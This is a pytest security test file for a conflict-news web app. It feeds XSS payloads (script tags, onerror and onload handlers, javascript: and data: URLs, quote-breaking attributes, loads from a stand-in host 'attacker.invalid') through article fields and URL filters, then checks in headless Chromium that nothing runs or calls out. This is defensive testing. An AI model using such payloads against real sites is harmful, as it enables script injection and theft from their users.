"""XSS in a real headless Chromium: hostile articles ingested through the API, and hostile
filters in the page's URL, run nothing, ask for nothing off the server and link no
`javascript:` URL (issues 9 and 11)."""

from __future__ import annotations

import json
import shutil
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlparse

import httpx
import pytest

ROOT = Path(__file__).resolve().parents[2]

pytestmark = pytest.mark.skipif(
    not any(shutil.which(name) for name in ("chromium", "chromium-browser", "google-chrome")),
    reason="no chromium on PATH: apt-get install chromium, pip install playwright (CI does)",
)

#: Where every payload tries to send the page; nothing may ask it for anything.
ATTACKER = "attacker.invalid"


def payloads(tag: str) -> str:
    """Markup that would run script, show a dialog or call the attacker if it were parsed."""
    return (
        f"<script>window.__xss='{tag}-script';alert('{tag}')</script>"
        f'<img src="http://{ATTACKER}/{tag}.png" onerror="window.__xss=\'{tag}-img\'">'
        f"<svg onload=\"window.__xss='{tag}-svg'\"></svg>"
        f"<iframe src=\"javascript:window.__xss='{tag}-iframe'\"></iframe>"
        f'"><script src="http://{ATTACKER}/{tag}.js"></script>'
        f"<a href=\"javascript:window.__xss='{tag}-a'\">click</a>"
        f"<style>@import 'http://{ATTACKER}/{tag}.css';</style>"
        f'<link rel=stylesheet href="http://{ATTACKER}/{tag}-link.css">'
        f"' onmouseover='window.__xss=\"{tag}-attr\"' x='"
    )


#: Articles whose every field is an attack, with sentences the extractors find facts in, so
#: the payloads reach the map, the incidents table, the figures and the article view.
HOSTILE: tuple[dict[str, str], ...] = (
    {
        "id": "xss-text",
        "title": payloads("title"),
        "url": "javascript:window.__xss='url'",
        "source": payloads("source"),
        "published": "2021-03-04",
        "text": (
            f"Shelling killed 7 people in Aleppo on Monday. {payloads('text')} "
            "The UN said about 40 families fled Aleppo. "
            f"{payloads('text2')} Fighting displaced 300 people in Idlib."
        ),
    },
    {
        "id": "xss-url-case",
        "title": "Air strikes hit Idlib",
        "url": "  JaVaScRiPt:window.__xss='url-case'",
        "source": "Wire",
        "published": "2021-03-05",
        "text": "Air strikes killed 12 civilians in Idlib on Tuesday, the UN said.",
    },
    {
        "id": "xss-url-data",
        "title": "Clashes near Aleppo",
        "url": "data:text/html,<script>window.__xss='data'</script>",
        "source": "Wire",
        "published": "2021-03-06",
        "text": "Clashes killed 5 fighters near Aleppo on Wednesday.",
    },
    {
        "id": "xss-url-quote",
        "title": "Shelling in Idlib",
        "url": f'https://{ATTACKER}/a"><script>window.__xss="href"</script>',
        "source": "Wire",
        "published": "2021-03-07",
        "text": "Shelling killed 3 people in Idlib on Thursday.",
    },
)


@dataclass
class Watch:
    """What a page said on its console, asked for off this server, and showed as dialogs."""

    errors: list[str] = field(default_factory=list)
    outside: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)


def open_page(browser: Any, url: str) -> tuple[Any, Watch]:
    """A fresh page at `url` that refuses every request off 127.0.0.1 and records problems."""
    context = browser.new_context(viewport={"width": 1400, "height": 1000})
    page = context.new_page()
    watch = Watch()

    def console(message: Any) -> None:
        if message.type == "error":
            watch.errors.append(message.text)

    def dialog(shown: Any) -> None:
        watch.dialogs.append(shown.message)
        shown.dismiss()

    page.on("console", console)
    page.on("pageerror", lambda error: watch.errors.append(str(error)))
    page.on("dialog", dialog)

    def only_loopback(route: Any) -> None:
        if urlparse(route.request.url).hostname == "127.0.0.1":
            route.continue_()
        else:
            watch.outside.append(route.request.url)
            route.abort()

    page.route("**/*", only_loopback)
    page.goto(url)
    return page, watch


#: Elements or attributes in the page that could only come from parsed data.
PARSED_MARKUP = """() => {
  const handlers = [...document.querySelectorAll("*")].filter(
    (e) => [...e.attributes].some((a) => a.name.toLowerCase().startsWith("on")));
  const links = [...document.querySelectorAll("a[href], area[href]")].filter(
    (a) => !["http:", "https:"].includes(new URL(a.href, location.href).protocol));
  const frames = document.querySelectorAll("iframe, object, embed, link[href*='attacker']");
  const scripts = [...document.querySelectorAll("script")].filter(
    (s) => !s.src.startsWith(location.origin + "/static/"));
  const images = [...document.querySelectorAll("img")].filter(
    (i) => !i.src.startsWith(location.origin));
  return {handlers: handlers.map((e) => e.outerHTML.slice(0, 80)),
          links: links.map((a) => a.getAttribute("href")),
          frames: frames.length, scripts: scripts.length, images: images.length,
          xss: window.__xss === undefined ? null : String(window.__xss)};
}"""


def assert_nothing_ran(page: Any, watch: Watch) -> None:
    """No script ran, no dialog, no request off the server, no markup from the data."""
    page.wait_for_timeout(300)  # let any image error or style import fire
    found = page.evaluate(PARSED_MARKUP)
    assert found == {
        "handlers": [],
        "links": [],
        "frames": 0,
        "scripts": 0,
        "images": 0,
        "xss": None,
    }
    assert watch.dialogs == []
    assert watch.outside == []
    assert not [e for e in watch.errors if "Content Security Policy" in e], watch.errors


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory, new_store: Any, serve: Any) -> Iterator[str]:
    """A writable server over our examples with the hostile articles ingested through the API."""
    token = "browser-security-token"
    db = new_store(tmp_path_factory.mktemp("xss") / "xss.db", ROOT / "examples")
    with serve(db, token=token) as base:
        body = "".join(json.dumps(record) + "\n" for record in HOSTILE).encode()
        answer = httpx.post(
            base + "/api/ingest", content=body, headers={"authorization": f"Bearer {token}"}
        )
        assert answer.status_code == 200 and answer.json()["added"] == len(HOSTILE)
        yield base


def test_the_hostile_articles_are_stored_as_written(site: str) -> None:
    stored = httpx.get(site + "/api/articles/xss-text").json()
    assert stored["title"] == HOSTILE[0]["title"] and stored["url"] == HOSTILE[0]["url"]
    assert "<script>" in stored["text"] and stored["figures"], "the payloads reach the facts"


@pytest.mark.parametrize("record", HOSTILE, ids=[r["id"] for r in HOSTILE])
def test_the_article_view_shows_hostile_fields_as_text(
    browser: Any, site: str, artifacts: Path, record: dict[str, str]
) -> None:
    page, watch = open_page(browser, f"{site}/?article={record['id']}&at=0-7")
    page.wait_for_selector("#article .article-text")
    page.wait_for_selector("body[data-ready=true]", timeout=20_000)
    page.hover("#article .article-text")
    page.screenshot(path=str(artifacts / f"security-{record['id']}.png"))
    assert_nothing_ran(page, watch)
    article = page.locator("#article")
    assert article.locator(".article-text").inner_text().strip() == record["text"].strip()
    assert article.locator(".article-title").inner_text() == record["title"]
    # A URL that is not http(s) is shown as text; a hostile http one is a plain link.
    shown = article.locator(".article-url")
    assert record["url"].strip() in shown.inner_text()
    if record["url"].startswith("https://"):
        link = shown.locator("a")
        assert link.get_attribute("rel") == "noopener noreferrer"
        assert link.get_attribute("href").startswith(f"https://{ATTACKER}/")
    else:
        assert shown.locator("a").count() == 0
    assert watch.errors == []


def test_the_main_page_draws_hostile_facts_as_text(
    browser: Any, site: str, artifacts: Path
) -> None:
    page, watch = open_page(browser, site + "/?since=2021-03-01&until=2021-03-31")
    page.wait_for_selector("body[data-ready=true]", timeout=20_000)
    page.screenshot(path=str(artifacts / "security-main.png"), full_page=True)
    assert_nothing_ran(page, watch)
    assert page.locator("#events-body tr.event-row").count() > 0
    claims = page.locator("#claims-body")
    assert "<script>" in claims.inner_text(), "the hostile title or source is shown, as text"
    # Open each claim's article: every view the page has, with the payloads in it.
    for i in range(min(page.locator("button.claim").count(), 6)):
        page.locator("button.claim").nth(i).click()
        page.wait_for_selector("#article .article-text")
        assert_nothing_ran(page, watch)
        page.click("#article-close")
    assert watch.errors == []


HOSTILE_FILTER = "\"><script>window.__xss='filter'</script><img src=x onerror=alert(1)>"


def test_hostile_filters_in_the_page_url_run_nothing(browser: Any, site: str) -> None:
    query = "&".join(
        f"{name}={quote(HOSTILE_FILTER)}" for name in ("place", "type", "measure", "article")
    )
    page, watch = open_page(browser, f"{site}/?{query}&since=2021-03-01&at=1-2")
    page.wait_for_timeout(2000)  # errors in the panels are fine; script running is not
    assert_nothing_ran(page, watch)
    assert page.locator("#f-place").input_value() == HOSTILE_FILTER


def test_the_report_page_escapes_hostile_articles_and_filters(browser: Any, site: str) -> None:
    for url in (
        f"{site}/report?since=2021-03-01",
        f"{site}/report?place={quote(HOSTILE_FILTER)}",
    ):
        page, watch = open_page(browser, url)
        page.wait_for_load_state("load")
        assert_nothing_ran(page, watch)
    page, _ = open_page(browser, f"{site}/report?since=2021-03-01")
    assert "<script>" in page.locator("body").inner_text(), "the hostile text is shown, as text"
